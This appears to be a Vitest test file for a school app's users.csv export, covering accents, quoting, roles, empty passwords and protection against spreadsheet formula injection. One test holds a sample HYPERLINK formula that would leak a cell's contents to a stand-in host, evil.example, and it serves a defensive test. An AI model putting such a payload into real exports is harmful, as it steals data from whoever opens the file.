// @vitest-environment node
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { usersCsv } from './usersCsv';

describe('the users.csv download', () => {
  const accounts = [
    {
      id: 'u1',
      firstName: 'Zoë',
      lastName: 'Brontë',
      email: 'zoe@hill.school',
      role: ['student' as const],
      password: 'Ab3#kLmnPqrsTu',
    },
    {
      id: 'u2',
      firstName: 'José',
      lastName: 'García, Jr.',
      email: 'jose@hill.school',
      role: ['admin' as const, 'teacher' as const],
      password: 'Zx9?hJkmNpqRst',
    },
  ];

  it('starts with a byte-order mark so Excel shows the accents', () => {
    expect(usersCsv(accounts).charCodeAt(0)).toBe(0xfeff);
  });

  it('holds firstName, lastName, email, role and password, one account a row', () => {
    const text = usersCsv(accounts).slice(1);
    expect(text.split('\r\n')[0]).toBe('firstName,lastName,email,role,password');
    expect(Papa.parse(text, { header: true, skipEmptyLines: true }).data).toEqual([
      { firstName: 'Zoë', lastName: 'Brontë', email: 'zoe@hill.school', role: 'student', password: 'Ab3#kLmnPqrsTu' },
      {
        firstName: 'José',
        lastName: 'García, Jr.',
        email: 'jose@hill.school',
        role: 'admin teacher',
        password: 'Zx9?hJkmNpqRst',
      },
    ]);
  });

  it('leaves the password empty for an account made without one (an API token made it)', () => {
    const text = usersCsv([{ ...accounts[0]!, password: null }]).slice(1);
    const [row] = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
    expect(row).toEqual({ ...row, email: 'zoe@hill.school', password: '' });
  });

  it('keeps a spreadsheet from running a name as a formula', () => {
    const text = usersCsv([{ ...accounts[0]!, firstName: '=HYPERLINK("x")' }]);
    expect(text).toContain(`"'=HYPERLINK(""x"")"`);
  });

  it('keeps a formula with a line break from running too', () => {
    const name = '=HYPERLINK("http://evil.example/?leak="&C2,\n"Click")';
    const [row] = Papa.parse<Record<string, string>>(usersCsv([{ ...accounts[0]!, lastName: name }]).slice(1), {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(row?.lastName).toBe(`'${name}`);
  });
});
